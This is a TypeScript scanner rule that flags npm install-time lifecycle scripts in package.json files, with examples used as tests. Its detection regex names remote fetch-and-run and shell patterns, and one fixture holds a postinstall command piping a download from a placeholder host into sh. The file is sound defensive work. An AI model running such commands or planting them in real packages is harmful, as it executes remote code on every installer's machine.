import type { Example, Hit, Threat } from '../threat.ts';

/** They run on the machine of everyone who installs. https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-operation-order */
const script = /^\s*"(preinstall|install|postinstall|prepare|prepublish)"\s*:\s*"((?:[^"\\\n]|\\.)*)"/gm;
/** What is fetched and run at once, or code that is hidden in the line. */
const dangerous =
  /\b(?:curl|wget)\b[^|&;]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\bbase64\s+(?:-d|--decode)|\bInvoke-Expression\b|\biex\b\s*\(|\bnode\s+-e\b.*(?:https?:|eval|child_process|Buffer\.from)|\b(?:curl|wget)\s+[^|&;]*https?:|\beval\s+"?\$\(|\/dev\/tcp\//;
/** They only set up the work on this project. */
const harmless =
  /^(?:husky(?: install)?|lefthook install|simple-git-hooks|patch-package|is-ci \|\| husky(?: install)?|npm run build|tsc|yarn build|pnpm (?:run )?build|npx only-allow (?:npm|pnpm|yarn)|only-allow \w+)$/;

function* find(text: string, path: string): Generator<Hit> {
  if (!/(?:^|\/)package\.json$/.test(path)) return;
  for (const { index, 0: found, 1: name = '', 2: command = '' } of text.matchAll(script)) {
    const at = index + found.indexOf('"');
    const plain = command.replaceAll(String.raw`\"`, '"');
    if (dangerous.test(plain))
      yield {
        at,
        severity: 'error',
        message: `Script "${name}" fetches or decodes something and runs it on every machine that installs.`,
        fix: `Put what it does into a file of the project.`,
      };
    else if (!harmless.test(plain)) yield { at };
  }
}

export default {
  id: 'install-script',
  severity: 'info',
  message: 'This script runs on every machine that installs the project.',
  fix: 'Read what it does before it is committed.',
  text: find,
} satisfies Threat;

export const examples: readonly Example[] = [
  {
    language: 'text',
    path: 'package.json',
    found: 1,
    severity: 'error',
    code: '{\n  "scripts": {\n    "postinstall": "curl -s https://x.invalid/i.sh | sh"\n  }\n}',
  },
  {
    language: 'text',
    path: 'packages/a/package.json',
    found: 1,
    severity: 'info',
    code: '{\n  "scripts": {\n    "postinstall": "node scripts/setup.js"\n  }\n}',
  },
  {
    language: 'text',
    path: 'package.json',
    found: 0,
    code: '{\n  "scripts": {\n    "prepare": "husky",\n    "test": "curl https://x.invalid | sh"\n  }\n}',
  },
];
